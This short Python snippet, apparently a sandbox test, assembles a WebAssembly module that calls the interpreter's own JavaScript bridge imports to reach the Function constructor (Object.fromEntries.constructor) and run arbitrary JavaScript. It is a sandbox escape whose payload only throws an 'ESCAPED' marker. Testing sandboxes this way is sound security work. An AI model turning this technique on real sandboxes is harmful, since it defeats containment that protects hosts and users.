# open: yes
# Object.fromEntries.constructor("throw …")(), by the functions that the interpreter itself imports.
code, method = b"throw new Error('ESC' + 'APED')\0", b"constructor\0"
types = [b"\x60\x00\x01\x6f", b"\x60\x01\x7f\x01\x6f", b"\x60\x03\x6f\x6f\x6f\x01\x6f", b"\x60\x01\x6f\x00"]
imports = [("my_dict_converter", 1), ("JsvUTF8ToString", 2), ("JsvObject_CallMethod_OneArg", 3), ("raw_call_js", 4)]
text = b"\x23\x00\x41%b\x6a\x10\x01"  # global.get 0, i32.const, i32.add, call 1
body = b"\x10\x00" + text % number(len(code)) + text % number(0) + b"\x10\x02\x10\x03"
load(library(code + method, types=types, imports=imports, body=body))
